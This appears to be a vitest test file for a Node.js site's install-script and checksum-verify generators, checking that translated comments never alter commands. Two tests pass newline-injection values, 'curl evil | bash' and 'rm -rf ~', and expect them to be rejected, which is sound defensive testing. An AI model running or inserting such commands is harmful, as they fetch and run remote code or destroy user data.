import { describe, expect, it } from 'vitest';
import { NOV_2026 } from '../test/fixtures';
import { INSTALL_METHODS, OPERATING_SYSTEMS, PACKAGE_MANAGER_VALUES } from './catalogue';
import { shasums } from './data-shasums';
import { findMinorRelease } from './release-lookup';
import { DEFAULT_VERIFY_STEP_TITLES, type VerifyStepTitles, verifyCommands } from './verify';
import {
  DEFAULT_INSTALL_SCRIPT_COMMENTS,
  IncompatibleSelectionError,
  InvalidCommentError,
  installScript,
  type InstallScriptComments,
  type InstallScriptInput,
} from './install-script';

const line = (name: string) => NOV_2026.find((release) => release.line === name)!;
const v24 = line('v24');

/** Every comment marked, so a test sees which lines are comments and which are commands. */
const MARKED: InstallScriptComments = {
  downloadAndInstall: (tool) => `«descargar ${tool}»`,
  loadIntoShell: (tool) => `«cargar ${tool}»`,
  loadIntoPowerShell: (tool) => `«cargar ${tool} en PowerShell»`,
  installNode: '«instalar Node.js»',
  installFirst: (tool) => `«${tool} primero»`,
  pullImage: '«imagen»',
  putFirstOnPath: '«PATH»',
  installWithN: '«n»',
  addPluginAndInstall: '«plugin»',
  checkNode: (version) => `«versión de Node.js ${version}»`,
  installCorepack: '«corepack»',
  checkNpm: '«versión de npm»',
  enableManager: (manager) => `«activar ${manager}»`,
  enableManagerAndCheck: (manager) => `«activar ${manager} y comprobar»`,
  checkManager: (manager) => `«versión de ${manager}»`,
};

/** Every valid input: each OS × install method × package manager, on the newest release and an exact older one. */
function inputs(): InstallScriptInput[] {
  const all: InstallScriptInput[] = [];
  for (const os of OPERATING_SYSTEMS) {
    for (const method of INSTALL_METHODS) {
      for (const packageManager of PACKAGE_MANAGER_VALUES) {
        for (const version of [undefined, 'v24.1.0']) {
          all.push({ release: v24, version, os, installMethod: method.id, packageManager });
        }
      }
    }
  }
  return all;
}

function scriptOrNone(input: InstallScriptInput): string | undefined {
  try {
    return installScript(input).code;
  } catch (error) {
    if (error instanceof IncompatibleSelectionError) {
      return undefined;
    }
    throw error;
  }
}

describe('installScript comments', () => {
  it('writes the English comments by default, the same as when they are passed explicitly', () => {
    for (const input of inputs()) {
      expect(scriptOrNone({ ...input, comments: DEFAULT_INSTALL_SCRIPT_COMMENTS })).toBe(scriptOrNone(input));
    }
    const code = installScript({ release: v24, os: 'LINUX', installMethod: 'NVM', packageManager: 'PNPM' }).code;
    expect(code.split('\n').filter((text) => text.startsWith('#'))).toEqual([
      '# Download and install nvm:',
      '# Load nvm into the current shell (new shells load it on their own):',
      '# Download and install Node.js:',
      `# Check the Node.js version (should print "${v24.versionWithPrefix}"):`,
      '# Enable pnpm with corepack:',
      '# Check the pnpm version:',
    ]);
  });

  it('changes every comment line and never a command, for every OS, method and package manager', () => {
    let scripts = 0;
    for (const input of inputs()) {
      const english = scriptOrNone(input);
      const translated = scriptOrNone({ ...input, comments: MARKED });
      if (english === undefined) {
        expect(translated).toBeUndefined();
        continue;
      }
      scripts += 1;
      const before = english.split('\n');
      const after = translated?.split('\n') ?? [];
      expect(after).toHaveLength(before.length);
      before.forEach((text, index) => {
        if (text.startsWith('# ')) {
          expect(after[index]).toMatch(/^# «.+»$/);
        } else {
          expect(after[index]).toBe(text);
        }
      });
    }
    expect(scripts).toBeGreaterThan(50);
  });

  it('keeps the English text of comments left out', () => {
    const code = installScript({
      release: v24,
      os: 'WIN',
      installMethod: 'FNM',
      packageManager: 'NPM',
      comments: { installNode: 'Node.js herunterladen und installieren:' },
    }).code;
    expect(code).toContain('# Download and install fnm:\nwinget install Schniz.fnm');
    expect(code).toContain('# Node.js herunterladen und installieren:\nfnm install 24');
  });

  it('refuses a comment that would break onto a second line, naming it', () => {
    const input: InstallScriptInput = { release: v24, os: 'LINUX', installMethod: 'NVM', packageManager: 'NPM' };
    expect(() => installScript({ ...input, comments: { installNode: 'first\ncurl evil | bash' } })).toThrow(InvalidCommentError);
    expect(() => installScript({ ...input, comments: { checkNpm: '' } })).toThrow(/"checkNpm" must be a single line/);
  });
});

describe('verifyCommands step titles', () => {
  const release = findMinorRelease(NOV_2026, 'v24.11.1')!.minor;
  const input = { release, file: 'node-v24.11.1-linux-x64.tar.xz', os: 'LINUX' as const, shasums };
  const marked: VerifyStepTitles = {
    checksums: '«Liste»',
    check: (name) => `«prüfen ${name}»`,
    keys: (url, server) => `«Schlüssel ${url} ${server}»`,
    signature: (signature, shell) => `«Signatur ${signature} ${shell}»`,
  };

  it('writes the English titles by default, the same as when they are passed explicitly', () => {
    for (const os of OPERATING_SYSTEMS) {
      expect(verifyCommands({ ...input, os }, { titles: DEFAULT_VERIFY_STEP_TITLES }).code).toBe(verifyCommands({ ...input, os }).code);
    }
    expect(verifyCommands({ ...input, os: 'WIN' }).code).toContain(
      '# Check that the list is the one the release team signed (detached signature; gpgv comes with Gpg4win)',
    );
  });

  it('changes every title line and never a command, on every system', () => {
    for (const os of OPERATING_SYSTEMS) {
      const before = verifyCommands({ ...input, os }).code.split('\n');
      const after = verifyCommands({ ...input, os }, { titles: marked }).code.split('\n');
      expect(after).toHaveLength(before.length);
      before.forEach((text, index) => {
        expect(after[index]).toBe(text.startsWith('# ') ? after[index] : text);
        expect(after[index]?.startsWith('# «')).toBe(text.startsWith('# '));
      });
    }
    expect(verifyCommands({ ...input, os: 'WIN' }, { titles: marked }).code).toContain('# «Signatur detached powershell»');
  });

  it('refuses a title that would break onto a second line', () => {
    expect(() => verifyCommands(input, { titles: { checksums: 'Liste\nrm -rf ~' } })).toThrow(InvalidCommentError);
  });
});
